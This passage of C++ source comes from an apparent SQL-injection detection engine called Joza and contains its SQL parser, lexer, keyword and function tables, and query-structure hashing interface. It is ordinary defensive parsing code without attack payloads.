        return StatusOr<ExprPtr>(MakeBinary(m.op, std::move(lhs.value()),
                                            std::move(rhs.value())));
      }
    }
    return lhs;
  }

  StatusOr<ExprPtr> ParseAdditive() {
    auto lhs = ParseMultiplicative();
    if (!lhs.ok()) return lhs;
    for (;;) {
      SkipComments();
      BinaryOp op;
      if (MatchOperator("+")) {
        op = BinaryOp::kAdd;
      } else if (MatchOperator("-")) {
        op = BinaryOp::kSub;
      } else {
        break;
      }
      auto rhs = ParseMultiplicative();
      if (!rhs.ok()) return rhs;
      lhs = MakeBinary(op, std::move(lhs.value()), std::move(rhs.value()));
    }
    return lhs;
  }

  StatusOr<ExprPtr> ParseMultiplicative() {
    auto lhs = ParseUnary();
    if (!lhs.ok()) return lhs;
    for (;;) {
      SkipComments();
      BinaryOp op;
      if (MatchOperator("*")) {
        op = BinaryOp::kMul;
      } else if (MatchOperator("/")) {
        op = BinaryOp::kDiv;
      } else if (MatchOperator("%")) {
        op = BinaryOp::kMod;
      } else {
        break;
      }
      auto rhs = ParseUnary();
      if (!rhs.ok()) return rhs;
      lhs = MakeBinary(op, std::move(lhs.value()), std::move(rhs.value()));
    }
    return lhs;
  }

  StatusOr<ExprPtr> ParseUnary() {
    SkipComments();
    if (MatchOperator("-")) {
      auto operand = ParseUnary();
      if (!operand.ok()) return operand;
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kUnary;
      e->unary_op = UnaryOp::kNeg;
      e->lhs = std::move(operand.value());
      return StatusOr<ExprPtr>(std::move(e));
    }
    if (MatchOperator("+")) return ParseUnary();
    return ParsePrimary();
  }

  StatusOr<ExprPtr> ParsePrimary() {
    SkipComments();
    if (AtEnd()) return StatusOr<ExprPtr>(Status::ParseError("expected expression, got <eof>"));
    const Token& t = Peek();
    auto e = std::make_unique<Expr>();
    e->span = t.span;

    switch (t.kind) {
      case TokenKind::kNumber: {
        Advance();
        std::string_view text = t.text;
        if (text.find('.') != std::string_view::npos ||
            text.find('e') != std::string_view::npos ||
            text.find('E') != std::string_view::npos) {
          e->kind = ExprKind::kDoubleLiteral;
          e->double_value = std::strtod(std::string(text).c_str(), nullptr);
        } else if (text.size() > 2 && text[0] == '0' &&
                   (text[1] == 'x' || text[1] == 'X')) {
          e->kind = ExprKind::kIntLiteral;
          std::from_chars(text.data() + 2, text.data() + text.size(),
                          e->int_value, 16);
        } else {
          e->kind = ExprKind::kIntLiteral;
          auto [p, ec] = std::from_chars(text.data(),
                                         text.data() + text.size(),
                                         e->int_value);
          if (ec != std::errc()) {
            e->kind = ExprKind::kDoubleLiteral;
            e->double_value = std::strtod(std::string(text).c_str(), nullptr);
          }
        }
        return StatusOr<ExprPtr>(std::move(e));
      }
      case TokenKind::kString:
        Advance();
        e->kind = ExprKind::kStringLiteral;
        e->string_value = UnescapeStringToken(t.text);
        return StatusOr<ExprPtr>(std::move(e));
      case TokenKind::kPlaceholder:
        Advance();
        e->kind = ExprKind::kPlaceholder;
        e->placeholder_name = std::string(t.text);
        return StatusOr<ExprPtr>(std::move(e));
      case TokenKind::kKeyword:
        if (IsKeywordToken(t, "NULL")) {
          Advance();
          e->kind = ExprKind::kNullLiteral;
          return StatusOr<ExprPtr>(std::move(e));
        }
        if (IsKeywordToken(t, "TRUE") || IsKeywordToken(t, "FALSE")) {
          Advance();
          e->kind = ExprKind::kBoolLiteral;
          e->bool_value = IsKeywordToken(t, "TRUE");
          return StatusOr<ExprPtr>(std::move(e));
        }
        if (IsKeywordToken(t, "CASE")) return ParseCase();
        if (IsKeywordToken(t, "DISTINCT")) {
          // COUNT(DISTINCT x) — treat DISTINCT transparently inside calls.
          Advance();
          return ParsePrimary();
        }
        return StatusOr<ExprPtr>(Status::ParseError(
            "unexpected keyword in expression: " + std::string(t.text)));
      case TokenKind::kFunction: {
        Advance();
        e->kind = ExprKind::kFunctionCall;
        e->function_name = ToUpper(t.text);
        if (auto st = Expect(MatchPunct("("), "( after function name");
            !st.ok()) {
          return StatusOr<ExprPtr>(st);
        }
        // CAST(expr AS type) / CONVERT(expr, type): the type is captured as
        // a trailing string-literal argument for the evaluator.
        if (e->function_name == "CAST" || e->function_name == "CONVERT") {
          auto arg = ParseExpr();
          if (!arg.ok()) return arg;
          e->args.push_back(std::move(arg.value()));
          if (MatchKeyword("AS") || MatchPunct(",")) {
            std::string type;
            int depth = 0;
            SkipComments();
            while (!AtEnd() && !(depth == 0 && Peek().text == ")")) {
              const Token& t = Advance();
              if (t.text == "(") ++depth;
              if (t.text == ")") --depth;
              if (!type.empty()) type.push_back(' ');
              type.append(t.text);
            }
            e->args.push_back(MakeStringLiteral(std::move(type)));
          }
          if (auto st = Expect(MatchPunct(")"), ") after CAST"); !st.ok()) {
            return StatusOr<ExprPtr>(st);
          }
          return StatusOr<ExprPtr>(std::move(e));
        }
        SkipComments();
        if (!MatchPunct(")")) {
          do {
            SkipComments();
            // COUNT(*) style argument.
            if (Peek().kind == TokenKind::kOperator && Peek().text == "*") {
              Advance();
              auto star = std::make_unique<Expr>();
              star->kind = ExprKind::kColumnRef;
              star->column = "*";
              e->args.push_back(std::move(star));
            } else {
              auto arg = ParseExpr();
              if (!arg.ok()) return arg;
              e->args.push_back(std::move(arg.value()));
            }
          } while (MatchPunct(","));
          if (auto st = Expect(MatchPunct(")"), ") after arguments");
              !st.ok()) {
            return StatusOr<ExprPtr>(st);
          }
        }
        return StatusOr<ExprPtr>(std::move(e));
      }
      case TokenKind::kIdentifier: {
        Advance();
        // identifier(...) — user function call on a non-builtin name.
        if (!AtEnd() && Peek().kind == TokenKind::kPunct &&
            Peek().text == "(") {
          Advance();
          e->kind = ExprKind::kFunctionCall;
          e->function_name = ToUpper(UnquoteIdentifier(t.text));
          SkipComments();
          if (!MatchPunct(")")) {
            do {
              auto arg = ParseExpr();
              if (!arg.ok()) return arg;
              e->args.push_back(std::move(arg.value()));
            } while (MatchPunct(","));
            if (auto st = Expect(MatchPunct(")"), ") after arguments");
                !st.ok()) {
              return StatusOr<ExprPtr>(st);
            }
          }
          return StatusOr<ExprPtr>(std::move(e));
        }
        e->kind = ExprKind::kColumnRef;
        e->column = UnquoteIdentifier(t.text);
        if (MatchPunct(".")) {
          e->qualifier = std::move(e->column);
          SkipComments();
          if (!AtEnd() && Peek().kind == TokenKind::kOperator &&
              Peek().text == "*") {
            Advance();
            e->column = "*";
          } else {
            auto col = ExpectIdentifier();
            if (!col.ok()) return StatusOr<ExprPtr>(col.status());
            e->column = std::move(col.value());
          }
        }
        return StatusOr<ExprPtr>(std::move(e));
      }
      case TokenKind::kOperator:
        if (t.text == "*") {
          Advance();
          e->kind = ExprKind::kColumnRef;
          e->column = "*";
          return StatusOr<ExprPtr>(std::move(e));
        }
        break;
      case TokenKind::kPunct:
        if (t.text == "(") {
          Advance();
          SkipComments();
          if (IsKeywordToken(Peek(), "SELECT")) {
            auto sub = ParseSelect();
            if (!sub.ok()) return StatusOr<ExprPtr>(sub.status());
            e->kind = ExprKind::kSubquery;
            e->subquery = std::make_unique<SelectStmt>(std::move(sub.value()));
          } else {
            auto inner = ParseExpr();
            if (!inner.ok()) return inner;
            e = std::move(inner.value());
          }
          if (auto st = Expect(MatchPunct(")"), "closing )"); !st.ok()) {
            return StatusOr<ExprPtr>(st);
          }
          return StatusOr<ExprPtr>(std::move(e));
        }
        break;
      default:
        break;
    }
    return StatusOr<ExprPtr>(Status::ParseError(
        "unexpected token in expression: " + std::string(t.text)));
  }

  // CASE WHEN c THEN v [WHEN...] [ELSE v] END — desugared into nested IF().
  StatusOr<ExprPtr> ParseCase() {
    MatchKeyword("CASE");
    struct Arm {
      ExprPtr cond, value;
    };
    std::vector<Arm> arms;
    while (MatchKeyword("WHEN")) {
      auto c = ParseExpr();
      if (!c.ok()) return c;
      if (auto st = Expect(MatchKeyword("THEN"), "THEN"); !st.ok()) {
        return StatusOr<ExprPtr>(st);
      }
      auto v = ParseExpr();
      if (!v.ok()) return v;
      arms.push_back({std::move(c.value()), std::move(v.value())});
    }
    ExprPtr else_value;
    if (MatchKeyword("ELSE")) {
      auto v = ParseExpr();
      if (!v.ok()) return v;
      else_value = std::move(v.value());
    } else {
      else_value = std::make_unique<Expr>();
      else_value->kind = ExprKind::kNullLiteral;
    }
    if (auto st = Expect(MatchKeyword("END"), "END"); !st.ok()) {
      return StatusOr<ExprPtr>(st);
    }
    if (arms.empty()) {
      return StatusOr<ExprPtr>(Status::ParseError("CASE without WHEN"));
    }
    ExprPtr acc = std::move(else_value);
    for (auto it = arms.rbegin(); it != arms.rend(); ++it) {
      auto ife = std::make_unique<Expr>();
      ife->kind = ExprKind::kFunctionCall;
      ife->function_name = "IF";
      ife->args.push_back(std::move(it->cond));
      ife->args.push_back(std::move(it->value));
      ife->args.push_back(std::move(acc));
      acc = std::move(ife);
    }
    return StatusOr<ExprPtr>(std::move(acc));
  }

  ExprPtr MakeBinary(BinaryOp op, ExprPtr lhs, ExprPtr rhs) {
    auto e = std::make_unique<Expr>();
    e->kind = ExprKind::kBinary;
    e->binary_op = op;
    e->span = {lhs->span.begin, rhs->span.end};
    e->lhs = std::move(lhs);
    e->rhs = std::move(rhs);
    return e;
  }

  // --- statements ----------------------------------------------------------

  StatusOr<SelectStmt> ParseSelect() {
    SelectStmt stmt;
    for (;;) {
      auto core = ParseSelectCore();
      if (!core.ok()) return core.status();
      stmt.cores.push_back(std::move(core.value()));
      SkipComments();
      if (MatchKeyword("UNION")) {
        stmt.union_all.push_back(MatchKeyword("ALL"));
        if (auto st = Expect(MatchKeyword("SELECT") || IsNextSelect(),
                             "SELECT after UNION");
            !st.ok()) {
          return st;
        }
        continue;
      }
      break;
    }
    if (MatchKeyword("ORDER")) {
      if (auto st = Expect(MatchKeyword("BY"), "BY after ORDER"); !st.ok()) {
        return st;
      }
      do {
        OrderItem item;
        auto e = ParseExpr();
        if (!e.ok()) return e.status();
        item.expr = std::move(e.value());
        if (MatchKeyword("DESC")) {
          item.descending = true;
        } else {
          MatchKeyword("ASC");
        }
        stmt.order_by.push_back(std::move(item));
      } while (MatchPunct(","));
    }
    if (MatchKeyword("LIMIT")) {
      auto n = ParseIntValue();
      if (!n.ok()) return n.status();
      stmt.limit = n.value();
      if (MatchPunct(",")) {
        // LIMIT offset, count
        auto m = ParseIntValue();
        if (!m.ok()) return m.status();
        stmt.offset = stmt.limit;
        stmt.limit = m.value();
      } else if (MatchKeyword("OFFSET")) {
        auto m = ParseIntValue();
        if (!m.ok()) return m.status();
        stmt.offset = m.value();
      }
    }
    return stmt;
  }

  // After UNION the SELECT keyword may already have been consumed by
  // MatchKeyword in the caller; this checks the lookahead case.
  bool IsNextSelect() {
    SkipComments();
    return !AtEnd() && IsKeywordToken(Peek(), "SELECT");
  }

  StatusOr<SelectCore> ParseSelectCore() {
    // The SELECT keyword may or may not be consumed yet.
    MatchKeyword("SELECT");
    SelectCore core;
    core.distinct = MatchKeyword("DISTINCT");
    MatchKeyword("ALL");

    do {
      SelectItem item;
      auto e = ParseExpr();
      if (!e.ok()) return e.status();
      item.expr = std::move(e.value());
      if (MatchKeyword("AS")) {
        auto a = ExpectIdentifier();
        if (!a.ok()) return a.status();
        item.alias = std::move(a.value());
      } else {
        SkipComments();
        if (!AtEnd() && Peek().kind == TokenKind::kIdentifier) {
          item.alias = UnquoteIdentifier(Advance().text);
        }
      }
      core.items.push_back(std::move(item));
    } while (MatchPunct(","));

    if (MatchKeyword("FROM")) {
      auto tr = ParseTableRef();
      if (!tr.ok()) return tr.status();
      core.from = std::move(tr.value());
      // JOINs and comma-joins.
      for (;;) {
        SkipComments();
        if (MatchPunct(",")) {
          JoinClause jc;
          jc.kind = JoinClause::Kind::kCross;
          auto t2 = ParseTableRef();
          if (!t2.ok()) return t2.status();
          jc.table = std::move(t2.value());
          core.joins.push_back(std::move(jc));
          continue;
        }
        JoinClause jc;
        bool is_join = false;
        if (MatchKeyword("INNER")) {
          jc.kind = JoinClause::Kind::kInner;
          is_join = true;
        } else if (MatchKeyword("LEFT")) {
          MatchKeyword("OUTER");
          jc.kind = JoinClause::Kind::kLeft;
          is_join = true;
        } else if (MatchKeyword("CROSS")) {
          jc.kind = JoinClause::Kind::kCross;
          is_join = true;
        }
        if (is_join || IsKeywordToken(Peek(), "JOIN")) {
          if (auto st = Expect(MatchKeyword("JOIN"), "JOIN"); !st.ok()) {
            return st;
          }
          auto t2 = ParseTableRef();
          if (!t2.ok()) return t2.status();
          jc.table = std::move(t2.value());
          if (MatchKeyword("ON")) {
            auto on = ParseExpr();
            if (!on.ok()) return on.status();
            jc.on = std::move(on.value());
          }
          core.joins.push_back(std::move(jc));
          continue;
        }
        break;
      }
    }

    if (MatchKeyword("WHERE")) {
      auto w = ParseExpr();
      if (!w.ok()) return w.status();
      core.where = std::move(w.value());
    }
    if (MatchKeyword("GROUP")) {
      if (auto st = Expect(MatchKeyword("BY"), "BY after GROUP"); !st.ok()) {
        return st;
      }
      do {
        auto g = ParseExpr();
        if (!g.ok()) return g.status();
        core.group_by.push_back(std::move(g.value()));
      } while (MatchPunct(","));
    }
    if (MatchKeyword("HAVING")) {
      auto h = ParseExpr();
      if (!h.ok()) return h.status();
      core.having = std::move(h.value());
    }
    return core;
  }

  StatusOr<TableRef> ParseTableRef() {
    TableRef tr;
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    tr.table = std::move(name.value());
    // Qualified names: schema.table (information_schema.tables etc.).
    if (MatchPunct(".")) {
      auto part = ExpectIdentifier();
      if (!part.ok()) return part.status();
      tr.table += "." + part.value();
    }
    if (MatchKeyword("AS")) {
      auto a = ExpectIdentifier();
      if (!a.ok()) return a.status();
      tr.alias = std::move(a.value());
    } else {
      SkipComments();
      if (!AtEnd() && Peek().kind == TokenKind::kIdentifier) {
        tr.alias = UnquoteIdentifier(Advance().text);
      }
    }
    return tr;
  }

  StatusOr<std::int64_t> ParseIntValue() {
    SkipComments();
    bool neg = MatchOperator("-");
    if (AtEnd() || Peek().kind != TokenKind::kNumber) {
      return Status::ParseError("expected integer");
    }
    const Token& t = Advance();
    std::int64_t v = 0;
    std::from_chars(t.text.data(), t.text.data() + t.text.size(), v);
    return neg ? -v : v;
  }

  StatusOr<InsertStmt> ParseInsert() {
    if (!MatchKeyword("INSERT")) MatchKeyword("REPLACE");
    MatchKeyword("INTO");
    InsertStmt stmt;
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    stmt.table = std::move(name.value());
    if (MatchPunct("(")) {
      do {
        auto col = ExpectIdentifier();
        if (!col.ok()) return col.status();
        stmt.columns.push_back(std::move(col.value()));
      } while (MatchPunct(","));
      if (auto st = Expect(MatchPunct(")"), ") after column list"); !st.ok()) {
        return st;
      }
    }
    if (auto st = Expect(MatchKeyword("VALUES"), "VALUES"); !st.ok()) {
      return st;
    }
    do {
      if (auto st = Expect(MatchPunct("("), "( before row values"); !st.ok()) {
        return st;
      }
      std::vector<ExprPtr> row;
      do {
        auto e = ParseExpr();
        if (!e.ok()) return e.status();
        row.push_back(std::move(e.value()));
      } while (MatchPunct(","));
      if (auto st = Expect(MatchPunct(")"), ") after row values"); !st.ok()) {
        return st;
      }
      stmt.rows.push_back(std::move(row));
    } while (MatchPunct(","));
    return stmt;
  }

  StatusOr<UpdateStmt> ParseUpdate() {
    MatchKeyword("UPDATE");
    UpdateStmt stmt;
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    stmt.table = std::move(name.value());
    if (auto st = Expect(MatchKeyword("SET"), "SET"); !st.ok()) return st;
    do {
      auto col = ExpectIdentifier();
      if (!col.ok()) return col.status();
      if (auto st = Expect(MatchOperator("="), "= in assignment"); !st.ok()) {
        return st;
      }
      auto e = ParseExpr();
      if (!e.ok()) return e.status();
      stmt.assignments.emplace_back(std::move(col.value()),
                                    std::move(e.value()));
    } while (MatchPunct(","));
    if (MatchKeyword("WHERE")) {
      auto w = ParseExpr();
      if (!w.ok()) return w.status();
      stmt.where = std::move(w.value());
    }
    if (MatchKeyword("LIMIT")) {
      auto n = ParseIntValue();
      if (!n.ok()) return n.status();
      stmt.limit = n.value();
    }
    return stmt;
  }

  StatusOr<DeleteStmt> ParseDelete() {
    MatchKeyword("DELETE");
    if (auto st = Expect(MatchKeyword("FROM"), "FROM after DELETE");
        !st.ok()) {
      return st;
    }
    DeleteStmt stmt;
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    stmt.table = std::move(name.value());
    if (MatchKeyword("WHERE")) {
      auto w = ParseExpr();
      if (!w.ok()) return w.status();
      stmt.where = std::move(w.value());
    }
    if (MatchKeyword("LIMIT")) {
      auto n = ParseIntValue();
      if (!n.ok()) return n.status();
      stmt.limit = n.value();
    }
    return stmt;
  }

  StatusOr<CreateTableStmt> ParseCreateTable() {
    MatchKeyword("CREATE");
    if (auto st = Expect(MatchKeyword("TABLE"), "TABLE after CREATE");
        !st.ok()) {
      return st;
    }
    CreateTableStmt stmt;
    if (MatchWord("IF")) {
      if (auto st = Expect(MatchKeyword("NOT") && MatchKeyword("EXISTS"),
                           "NOT EXISTS");
          !st.ok()) {
        return st;
      }
      stmt.if_not_exists = true;
    }
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    stmt.table = std::move(name.value());
    if (auto st = Expect(MatchPunct("("), "( after table name"); !st.ok()) {
      return st;
    }
    do {
      SkipComments();
      // Skip constraint clauses like PRIMARY KEY (...)
      if (MatchKeyword("PRIMARY") || MatchKeyword("UNIQUE") ||
          MatchKeyword("KEY") || MatchKeyword("INDEX")) {
        MatchKeyword("KEY");
        // consume optional name and parenthesized column list
        SkipComments();
        if (!AtEnd() && Peek().kind == TokenKind::kIdentifier) Advance();
        if (MatchPunct("(")) {
          int depth = 1;
          while (!AtEnd() && depth > 0) {
            const Token& t = Advance();
            if (t.text == "(") ++depth;
            if (t.text == ")") --depth;
          }
        }
        continue;
      }
      ColumnDef def;
      auto col = ExpectIdentifier();
      if (!col.ok()) return col.status();
      def.name = std::move(col.value());
      SkipComments();
      // Type name: identifier or keyword-ish word; tolerate common types.
      if (!AtEnd() && (Peek().kind == TokenKind::kIdentifier ||
                       Peek().kind == TokenKind::kFunction ||
                       Peek().kind == TokenKind::kKeyword)) {
        std::string type = ToUpper(Advance().text);
        if (type.find("INT") != std::string::npos) {
          def.type = ColumnDef::Type::kInt;
        } else if (type == "DOUBLE" || type == "FLOAT" || type == "REAL" ||
                   type == "DECIMAL" || type == "NUMERIC") {
          def.type = ColumnDef::Type::kDouble;
        } else {
          def.type = ColumnDef::Type::kText;
        }
        // Optional (size) and column attributes.
        if (MatchPunct("(")) {
          while (!AtEnd() && Peek().text != ")") Advance();
          MatchPunct(")");
        }
        while (MatchKeyword("NOT") || MatchKeyword("NULL") ||
               MatchKeyword("PRIMARY") || MatchKeyword("KEY") ||
               MatchKeyword("AUTO_INCREMENT") || MatchKeyword("UNIQUE") ||
               MatchKeyword("DEFAULT")) {
          SkipComments();
          if (!AtEnd() && (Peek().kind == TokenKind::kNumber ||
                           Peek().kind == TokenKind::kString)) {
            Advance();  // DEFAULT value
          }
        }
      }
      stmt.columns.push_back(def);
    } while (MatchPunct(","));
    if (auto st = Expect(MatchPunct(")"), ") after column defs"); !st.ok()) {
      return st;
    }
    return stmt;
  }

  StatusOr<DropTableStmt> ParseDropTable() {
    MatchKeyword("DROP");
    if (auto st = Expect(MatchKeyword("TABLE"), "TABLE after DROP");
        !st.ok()) {
      return st;
    }
    DropTableStmt stmt;
    if (MatchWord("IF")) {
      if (auto st = Expect(MatchKeyword("EXISTS"), "EXISTS"); !st.ok()) {
        return st;
      }
      stmt.if_exists = true;
    }
    auto name = ExpectIdentifier();
    if (!name.ok()) return name.status();
    stmt.table = std::move(name.value());
    return stmt;
  }

  std::string_view src_;
  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
};

}  // namespace

StatusOr<Statement> Parse(std::string_view query) {
  return Parser(query).ParseStatement();
}

StatusOr<Statement> Parse(std::string_view query,
                          const std::vector<Token>& tokens) {
  return Parser(query, tokens).ParseStatement();
}

StatusOr<ExprPtr> ParseExpression(std::string_view text) {
  return Parser(text).ParseExpressionOnly();
}

ExprPtr MakeIntLiteral(std::int64_t v) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kIntLiteral;
  e->int_value = v;
  return e;
}

ExprPtr MakeStringLiteral(std::string v) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kStringLiteral;
  e->string_value = std::move(v);
  return e;
}

const char* BinaryOpName(BinaryOp op) {
  switch (op) {
    case BinaryOp::kOr: return "OR";
    case BinaryOp::kAnd: return "AND";
    case BinaryOp::kXor: return "XOR";
    case BinaryOp::kEq: return "=";
    case BinaryOp::kNe: return "<>";
    case BinaryOp::kLt: return "<";
    case BinaryOp::kLe: return "<=";
    case BinaryOp::kGt: return ">";
    case BinaryOp::kGe: return ">=";
    case BinaryOp::kLike: return "LIKE";
    case BinaryOp::kNotLike: return "NOT LIKE";
    case BinaryOp::kRegexp: return "REGEXP";
    case BinaryOp::kAdd: return "+";
    case BinaryOp::kSub: return "-";
    case BinaryOp::kMul: return "*";
    case BinaryOp::kDiv: return "/";
    case BinaryOp::kMod: return "%";
    case BinaryOp::kConcatPipes: return "||";
  }
  return "?";
}

const char* UnaryOpName(UnaryOp op) {
  switch (op) {
    case UnaryOp::kNot: return "NOT";
    case UnaryOp::kNeg: return "-";
    case UnaryOp::kIsNull: return "IS NULL";
    case UnaryOp::kIsNotNull: return "IS NOT NULL";
  }
  return "?";
}

}  // namespace joza::sql
