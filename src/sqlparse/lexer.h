// SQL lexer producing byte-accurate token spans.
//
// The lexer is the foundation of both inference components: NTI's
// whole-token rule and PTI's single-fragment containment rule are defined
// over the critical tokens this lexer yields.
#pragma once

#include <cstdint>
#include <string_view>
#include <vector>

#include "sqlparse/token.h"

namespace joza::sql {

// Tokenizes `query`. Never fails: unterminated constructs yield kError
// tokens covering the rest of the input. Whitespace is skipped (not
// emitted); the trailing kEndOfInput token is NOT included.
//
// Token::text views point into `query`, which must outlive the result.
std::vector<Token> Lex(std::string_view query);

// Process-wide count of Lex() calls (relaxed, monotonically increasing).
// Test instrumentation for the single-pass analysis contract: the engine
// must lex each checked query exactly once.
std::uint64_t LexCallsForTest();

}  // namespace joza::sql
