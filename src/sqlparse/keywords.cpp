#include "sqlparse/keywords.h"

#include <algorithm>
#include <array>
#include <string>
#include <vector>

#include "sqlparse/lexer.h"
#include "util/strings.h"

namespace joza::sql {

namespace {

// Sorted uppercase keyword list (binary-searched; sortedness is unit-tested).
// MySQL-flavoured subset covering everything WordPress-class applications and
// the attack corpus use.
constexpr std::array<std::string_view, 76> kKeywords = {
    "ALL",       "ALTER",     "AND",        "AS",        "ASC",
    "AUTO_INCREMENT",         "BEGIN",      "BETWEEN",   "BY",
    "CASCADE",   "CASE",      "COLLATE",    "COLUMN",    "COMMIT",
    "CREATE",    "CROSS",     "DEFAULT",    "DELETE",    "DESC",
    "DISTINCT",  "DROP",      "ELSE",       "END",       "ESCAPE",
    "EXISTS",    "FALSE",     "FOREIGN",    "FROM",      "FULL",
    "GRANT",     "GROUP",     "HAVING",     "IN",        "INDEX",
    "INNER",     "INSERT",    "INTERVAL",   "INTO",      "IS",
    "JOIN",      "KEY",       "LEFT",       "LIKE",      "LIMIT",
    "NOT",       "NULL",      "OFFSET",     "ON",        "OR",
    "ORDER",     "OUTER",     "PRIMARY",    "PROCEDURE", "REFERENCES",
    "REGEXP",    "RENAME",    "REPLACE",    "REVOKE",    "RIGHT",
    "ROLLBACK",  "SELECT",    "SET",        "SHOW",      "TABLE",
    "THEN",      "TRUE",      "TRUNCATE",   "UNION",     "UNIQUE",
    "UPDATE",    "USING",     "VALUES",     "WHEN",      "WHERE",
    "WHILE",     "XOR",
};

// Sorted uppercase builtin function names.
constexpr std::array<std::string_view, 45> kFunctions = {
    "ABS",       "ASCII",        "AVG",         "BENCHMARK",  "CAST",
    "CEIL",      "CHAR",         "CHAR_LENGTH", "COALESCE",   "CONCAT",
    "CONCAT_WS", "CONVERT",      "COUNT",       "CURDATE",    "CURRENT_USER",
    "DATABASE",  "EXTRACTVALUE", "FLOOR",       "GROUP_CONCAT", "HEX",
    "IF",        "IFNULL",       "INSTR",       "LENGTH",     "LOWER",
    "LTRIM",     "MAX",          "MD5",         "MID",        "MIN",
    "NOW",       "RAND",         "ROUND",       "RTRIM",      "SLEEP",
    "SUBSTR",    "SUBSTRING",    "SUM",         "TRIM",       "UNHEX",
    "UPDATEXML", "UPPER",        "USER",        "USERNAME",   "VERSION",
};

template <std::size_t N>
bool SortedContains(const std::array<std::string_view, N>& arr,
                    std::string_view upper) {
  auto it = std::lower_bound(arr.begin(), arr.end(), upper);
  return it != arr.end() && *it == upper;
}

}  // namespace

bool IsKeyword(std::string_view word) {
  if (word.size() > 16) return false;
  std::string upper = ToUpper(word);
  return SortedContains(kKeywords, upper);
}

bool IsBuiltinFunction(std::string_view word) {
  if (word.size() > 16) return false;
  std::string upper = ToUpper(word);
  return SortedContains(kFunctions, upper);
}

bool ContainsSqlToken(std::string_view text) {
  // Quote characters are SQL string/identifier delimiters; fragments carry
  // them frequently (a quoted query template splits into "... = '" and
  // "' ...") and Table III of the paper lists bare quotes as retained
  // fragments. They also defeat the lexer below (an unbalanced quote
  // swallows the rest of the fragment), so test for them first.
  if (text.find_first_of("'\"`") != std::string_view::npos) return true;
  const std::vector<Token> tokens = Lex(text);
  return std::any_of(tokens.begin(), tokens.end(), [](const Token& t) {
    // Bare builtin-function names (CHAR, CAST, ...) count even without a
    // call parenthesis — Table III lists them as retained fragments.
    return t.IsCritical() || (t.kind == TokenKind::kIdentifier &&
                              IsBuiltinFunction(t.text));
  });
}

}  // namespace joza::sql
