// Query-structure fingerprinting for Joza's structure cache (Section VI-A).
//
// Two queries that differ only in the *contents* of data nodes (number and
// string literals) have the same structure hash. Any injected SQL changes
// the token skeleton — additional keywords, operators or comments alter the
// parse tree — and therefore changes the hash, so a cache hit on a
// previously-safe structure is itself safe.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "sqlparse/ast.h"
#include "sqlparse/token.h"
#include "util/status.h"

namespace joza::sql {

// Hash of the statement's shape with literal values blanked.
std::uint64_t StructureHash(const Statement& stmt);

// Convenience: parse + hash. Fails if the query does not parse.
StatusOr<std::uint64_t> StructureHashOf(std::string_view query);

// Same, over an already-lexed token stream (`tokens` must be the lex of
// `query`) — the hot path's variant, which never re-lexes.
StatusOr<std::uint64_t> StructureHashOf(std::string_view query,
                                        const std::vector<Token>& tokens);

// Token-skeleton fallback used when a query does not parse: the sequence of
// token kinds and critical-token texts with literal contents blanked. Never
// fails. Distinct from StructureHash's domain (the two are never compared).
std::uint64_t TokenSkeletonHash(std::string_view query);

// Human-readable skeleton, e.g. "SELECT * FROM <id> WHERE <id> = <num>".
// Useful for debugging and for the PTI daemon's reporting.
std::string TokenSkeleton(std::string_view query);

}  // namespace joza::sql
