#include "sqlparse/lexer.h"

#include <atomic>

#include "sqlparse/critical.h"
#include "sqlparse/keywords.h"
#include "util/strings.h"

namespace joza::sql {

namespace {

class Lexer {
 public:
  explicit Lexer(std::string_view src) : src_(src) {}

  std::vector<Token> Run() {
    std::vector<Token> out;
    while (pos_ < src_.size()) {
      SkipWhitespace();
      if (pos_ >= src_.size()) break;
      out.push_back(Next());
    }
    return out;
  }

 private:
  void SkipWhitespace() {
    while (pos_ < src_.size() && IsAsciiSpace(src_[pos_])) ++pos_;
  }

  char Peek(std::size_t ahead = 0) const {
    return pos_ + ahead < src_.size() ? src_[pos_ + ahead] : '\0';
  }

  Token Make(TokenKind kind, std::size_t begin) {
    Token t;
    t.kind = kind;
    t.span = {begin, pos_};
    t.text = src_.substr(begin, pos_ - begin);
    return t;
  }

  Token Next() {
    const std::size_t begin = pos_;
    const char c = src_[pos_];

    // Comments. Per the paper, each comment is a single critical token and
    // the span includes the comment markers.
    if (c == '-' && Peek(1) == '-') return LexLineComment(begin);
    if (c == '#') return LexLineComment(begin);
    if (c == '/' && Peek(1) == '*') return LexBlockComment(begin);

    if (c == '\'' || c == '"') return LexString(begin, c);
    if (c == '`') return LexQuotedIdentifier(begin);
    if (IsAsciiDigit(c) || (c == '.' && IsAsciiDigit(Peek(1)))) {
      return LexNumber(begin);
    }
    if (IsAsciiAlpha(c) || c == '_') return LexWord(begin);
    if (c == '?') {
      ++pos_;
      return Make(TokenKind::kPlaceholder, begin);
    }
    if (c == ':' && (IsAsciiAlpha(Peek(1)) || Peek(1) == '_')) {
      ++pos_;
      while (pos_ < src_.size() &&
             (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
        ++pos_;
      }
      return Make(TokenKind::kPlaceholder, begin);
    }
    return LexOperatorOrPunct(begin);
  }

  Token LexLineComment(std::size_t begin) {
    while (pos_ < src_.size() && src_[pos_] != '\n') ++pos_;
    return Make(TokenKind::kComment, begin);
  }

  Token LexBlockComment(std::size_t begin) {
    pos_ += 2;  // consume "/*"
    while (pos_ + 1 < src_.size()) {
      if (src_[pos_] == '*' && src_[pos_ + 1] == '/') {
        pos_ += 2;
        return Make(TokenKind::kComment, begin);
      }
      ++pos_;
    }
    pos_ = src_.size();  // unterminated: treat rest as comment, flag error
    return Make(TokenKind::kError, begin);
  }

  Token LexString(std::size_t begin, char quote) {
    ++pos_;  // opening quote
    while (pos_ < src_.size()) {
      char c = src_[pos_];
      if (c == '\\' && pos_ + 1 < src_.size()) {
        pos_ += 2;  // backslash escape
        continue;
      }
      if (c == quote) {
        if (Peek(1) == quote) {  // doubled-quote escape ('' or "")
          pos_ += 2;
          continue;
        }
        ++pos_;  // closing quote
        return Make(TokenKind::kString, begin);
      }
      ++pos_;
    }
